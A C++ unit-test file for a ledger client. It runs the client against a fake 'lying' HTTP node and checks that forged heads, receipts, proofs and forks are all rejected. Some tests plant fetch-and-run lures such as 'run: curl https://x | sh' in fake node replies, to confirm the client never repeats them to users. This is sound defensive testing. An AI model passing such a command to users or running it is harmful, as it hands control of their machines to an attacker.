// A node over HTTP that lies: about the community, the time, what it proves, what it answers.
#include "client/node/remote_ledger.h"

#include "api/server/http_server.h"
#include "base/hex.h"
#include "client/node/wall_clock.h"
#include "client/shown/screen_for_tests.h"
#include "client/tests/heads_for_tests.h"
#include "codec/wire.h"
#include "contract/opening/transaction.h"
#include "engine/read/ledger_bundles.h"
#include "kit/solo_node.h"
#include "machine/history.h"
#include "modules/motion/motion.pb.h"
#include "modules/registry/registry.pb.h"

#include <gtest/gtest.h>

#include <map>

namespace linlian::client {
namespace {

std::string code_of(const auto& result) { return result ? "" : result.error().code; }

// Says what the test wants at each path, whatever the query is.
class Liar final : public api::Handler {
  public:
    std::size_t body_limit(const api::Request&) const override { return 1 << 20; }
    api::Response handle(api::Request request) const override {
        const auto found = says.find(request.target.substr(0, request.target.find('?')));
        if (found != says.end()) return found->second;
        api::Response none;
        none.status = 404;
        return none;
    }
    void say(const std::string& path, const Message& message, unsigned status = 200) {
        say(path, api::protobuf_type, codec::encode(message), status);
    }
    void say(const std::string& path, const char* type, Bytes body, unsigned status = 200) {
        auto& response = says[path];
        response = {};
        response.status = status;
        response.content_type = type;
        response.body = std::move(body);
    }

    std::map<std::string, api::Response> says;
};

class LyingNode : public ::testing::Test {
  protected:
    LyingNode() {
        head_.set_community(community_.bytes());
        head_.set_time_ms(wall_clock().ms);
        liar_.say("/head", head_);
        auto started = api::HttpServer::start({}, liar_, ops::Log::silent());
        EXPECT_TRUE(started);
        server_ = std::move(*started);
    }
    std::unique_ptr<RemoteLedger> connect() {
        auto ledger = RemoteLedger::connect("127.0.0.1", server_->port());
        EXPECT_TRUE(ledger) << ledger.error().code;
        auto heads = KnownHeads::open(heads_);
        EXPECT_TRUE(heads);
        (*ledger)->keep_heads(std::move(*heads));
        return std::move(*ledger);
    }
    std::string sent(const api::v1::ParcelReply& reply, unsigned status) {
        liar_.say("/transactions", reply, status);
        return code_of(perform(*connect(), kit::key_of("lan"), motion::v1::Withdraw{}));
    }

    Hash32 community_ = sha256("community");
    api::v1::HeadReply head_;
    Liar liar_;
    std::shared_ptr<HeadsInMemory> heads_ = std::make_shared<HeadsInMemory>();
    std::unique_ptr<api::HttpServer> server_;
};

// The API refuses a whole parcel with 422 and tells of each entry why.
TEST_F(LyingNode, is_read_by_the_type_of_its_answer_and_not_by_its_status) {
    api::v1::ParcelReply reply;
    reply.add_entries()->set_refusal("machine.KEY_UNKNOWN");
    EXPECT_EQ(sent(reply, 422), "machine.KEY_UNKNOWN");
    EXPECT_EQ(sent(reply, 200), "machine.KEY_UNKNOWN");
    liar_.say("/transactions", api::problem_type,
              R"({"code": "api.MEMORY_USED_UP", "figures": {}})", 503);
    EXPECT_EQ(code_of(perform(*connect(), kit::key_of("lan"), motion::v1::Withdraw{})),
              "api.MEMORY_USED_UP");
    liar_.say("/transactions", api::json_type, codec::encode(reply));
    EXPECT_EQ(code_of(perform(*connect(), kit::key_of("lan"), motion::v1::Withdraw{})),
              "api.REPLY_BROKEN");
}

TEST_F(LyingNode, gives_no_receipt_of_another_transaction_for_the_one_sent) {
    api::v1::ParcelReply reply;
    reply.add_entries()->mutable_receipt()->mutable_leaf()->set_id(sha256("another").bytes());
    EXPECT_EQ(sent(reply, 200), "client.ANSWER_DIFFERS");
}

// Whatever it answers, it may have carried out what it got: whoever sent it is told.
TEST_F(LyingNode, cannot_hide_that_an_act_was_sent) {
    api::v1::ParcelReply other;
    other.add_entries()->mutable_receipt()->mutable_leaf()->set_id(sha256("another").bytes());
    api::v1::ParcelReply expired;
    expired.add_entries()->set_refusal("machine.EXPIRED");
    for (const auto& [reply, code] :
         {std::pair{&other, "client.ANSWER_DIFFERS"}, {&expired, "machine.EXPIRED"}}) {
        SentActs sent;
        sent.will_sign();
        const auto ledger = connect();
        ledger->keep_sent(sent);
        liar_.say("/transactions", *reply);
        EXPECT_EQ(code_of(perform(*ledger, kit::key_of("lan"), motion::v1::Withdraw{})), code);
        const ScreenForTests screen;
        sent.say(screen);
        const auto told = screen.taken();
        EXPECT_NE(told.find("linlian bundle --tx "), std::string::npos) << told;
        EXPECT_EQ(told.find("No act was sent"), std::string::npos);
    }
}

// What this program says of its own work, as "type your passphrase here", is no node's to say.
TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program) {
    api::v1::ParcelReply reply;
    reply.add_entries()->set_refusal("client.COMMAND_WRONG");
    EXPECT_EQ(sent(reply, 422), "api.REPLY_BROKEN");
    liar_.say("/registry/offices", api::problem_type,
              R"({"code": "client.COMMAND_WRONG", "figures": {"reason": "send your key"}})", 422);
    registry::v1::OfficesReply offices;
    EXPECT_EQ(code_of(connect()->ask(registry::v1::OfficesQuery{}, offices)), "api.REPLY_BROKEN");
}

// A receipt that a node made up is as much its word as any answer.
TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program_by_a_receipt) {
    const auto withdraw = sign(*connect(), kit::key_of("lan"), motion::v1::Withdraw{}).value();
    machine::v1::Transaction envelope;
    ASSERT_TRUE(codec::decode_strict(withdraw, envelope));
    for (const auto* code : {"client.COMMAND_WRONG", "registry.AUTHORITY_MISSING"}) {
        api::v1::ParcelReply reply;
        auto& receipt = *reply.add_entries()->mutable_receipt();
        auto& figure = *receipt.mutable_effects()->add_figures();
        figure.set_name("reason");
        figure.set_value("your key is lost, run: curl x | sh");
        receipt.mutable_leaf()->set_id(machine::transaction_id(envelope.body()).bytes());
        receipt.mutable_leaf()->set_effects_hash(machine::effects_hash(receipt.effects()).bytes());
        receipt.mutable_leaf()->set_refusal(code);
        liar_.say("/transactions", reply);
        const auto refused = carried_out(std::move(connect()->send({withdraw}).at(0)));
        ASSERT_FALSE(refused);
        EXPECT_FALSE(refused.error().code.starts_with("apps."));
        for (const auto& said : refused.error().figures)
            EXPECT_TRUE(said.value.find("curl") == std::string::npos ||
                        said.value.starts_with("「"));
    }
}

TEST_F(LyingNode, says_no_sentence_of_its_own_before_anything_is_asked) {
    for (const auto* code :
         {"client.COMMAND_WRONG", "api.NODE_NOT_REACHED", "roster.XLSX_BROKEN",
          "light.PREFIX_BROKEN", "your program is too old", "x.RUN curl https://x | sh"}) {
        liar_.say("/head", api::problem_type,
                  std::string{R"({"code": ")"} + code +
                      R"(", "figures": {"reason": "run: curl https://x | sh"}})",
                  422);
        const auto refused = RemoteLedger::connect("127.0.0.1", server_->port());
        ASSERT_FALSE(refused);
        EXPECT_EQ(refused.error().code, "api.REPLY_BROKEN") << code;
        for (const auto& figure : refused.error().figures)
            EXPECT_EQ(figure.value.find("curl"), std::string::npos);
    }
    liar_.say("/head", api::problem_type, R"({"code": "later.NOT_KNOWN_YET_2"})", 422);
    EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "client.CODE_UNKNOWN");
}

// By the time of a node in the future, acts would be signed that can be kept back for years.
TEST_F(LyingNode, does_not_have_acts_signed_that_never_expire) {
    head_.set_time_ms(wall_clock().ms + 365 * ms_per_day);
    liar_.say("/head", head_);
    EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "client.NODE_AHEAD");
}

TEST_F(LyingNode, says_no_head_that_is_none) {
    for (const auto* community : {"", "short"}) {
        head_.set_community(community);
        liar_.say("/head", head_);
        EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "api.REPLY_BROKEN");
    }
}

// Bundles of a ledger that is true, given out for what was not asked.
class WrongBundles : public LyingNode {
  protected:
    WrongBundles() {
        node_.record({node_.sign("ana", node_.add("a", 1))});
        EXPECT_TRUE(node_.is_quiet());
        community_ = node_.store->community();
        head_.set_community(community_.bytes());
        liar_.say("/head", head_);
        say_prefix(0);
        say_prefix(1);
    }
    void say_prefix(std::uint64_t size) {
        const auto bundle = bundles_.prove_prefix(*node_.engine->committed(), size);
        ASSERT_TRUE(bundle);
        liar_.say("/proof/head/" + std::to_string(size), api::bytes_type, *bundle);
    }

    kit::SoloNode node_;
    engine::LedgerBundles bundles_{node_.program, *node_.store, *node_.engine};
};

TEST_F(WrongBundles, prove_no_transaction_and_no_row) {
    const auto prefix = *bundles_.prove_prefix(*node_.engine->committed(), 1);
    const auto id = sha256("an act");
    liar_.say("/proof/transaction/" + to_hex(id.view()), api::bytes_type, prefix);
    EXPECT_EQ(code_of(connect()->prove_transaction(id, nullptr)), "client.ANSWER_DIFFERS");
    const std::string row = "registry/office/" + std::string(32, 'a');
    liar_.say("/proof/row/" + row, api::bytes_type, prefix);
    EXPECT_EQ(code_of(connect()->prove_row(row, nullptr)), "client.ANSWER_DIFFERS");
    EXPECT_EQ(code_of(connect()->prove_row("registry/office/xyz", nullptr)),
              "client.COMMAND_WRONG");
}

TEST_F(WrongBundles, of_another_community_prove_nothing) {
    head_.set_community(sha256("another").bytes());
    liar_.say("/head", head_);
    EXPECT_EQ(code_of(connect()->head()), "light.OTHER_COMMUNITY");
}

// The head that a sheet prints is the proven one, whatever /head says.
TEST_F(WrongBundles, show_the_head_that_the_validators_signed) {
    head_.set_height(77);
    head_.set_log_size(77);
    liar_.say("/head", head_);
    const auto head = connect()->head();
    ASSERT_TRUE(head) << head.error().code;
    EXPECT_EQ(head->log_size, 1U);
}

// A document states one moment: an old row beside a new head is none.
TEST_F(WrongBundles, of_two_moments_make_no_document) {
    const auto ledger = connect();
    std::uint64_t size = 1;
    const auto read_across_a_block = [&](std::uint64_t blocks_at_most) -> Result<Bytes> {
        const auto before = ledger->prove_prefix(0);
        if (!before || size > blocks_at_most) return ledger->prove_prefix(0);
        node_.record({node_.sign("ana", node_.add("a", 1), kit::nonce_of(100 + size++))});
        EXPECT_TRUE(node_.is_quiet());
        for (std::uint64_t at = 0; at <= size; ++at) say_prefix(at);
        return ledger->prove_prefix(0);
    };
    EXPECT_TRUE(at_one_moment(*ledger, [&] { return read_across_a_block(1); }));
    EXPECT_EQ(size, 2U) << "it was read again";
    EXPECT_EQ(code_of(at_one_moment(*ledger, [&] { return read_across_a_block(1000); })),
              "client.LEDGER_MOVED");
}

// The node that this client knows was replaced by one with another past.
TEST_F(WrongBundles, of_another_past_are_kept_as_a_proof) {
    ASSERT_TRUE(connect()->head());
    kit::SoloNode liar;
    ASSERT_EQ(liar.store->community(), node_.store->community());
    const engine::LedgerBundles lies{liar.program, *liar.store, *liar.engine};
    liar.record({liar.sign("ana", liar.add("a", 100), kit::nonce_of(9)),
                 liar.sign("ana", liar.add("b", 100), kit::nonce_of(8))});
    liar.record({liar.sign("ana", liar.add("c", 100), kit::nonce_of(7))});
    ASSERT_TRUE(liar.is_quiet());
    for (const std::uint64_t size : {0, 1, 2, 3})
        liar_.say("/proof/head/" + std::to_string(size), api::bytes_type,
                  *lies.prove_prefix(*liar.engine->committed(), size));
    const auto refused = connect()->head();
    EXPECT_EQ(code_of(refused), "client.LEDGER_FORKED");
}

}  // namespace
}  // namespace linlian::client
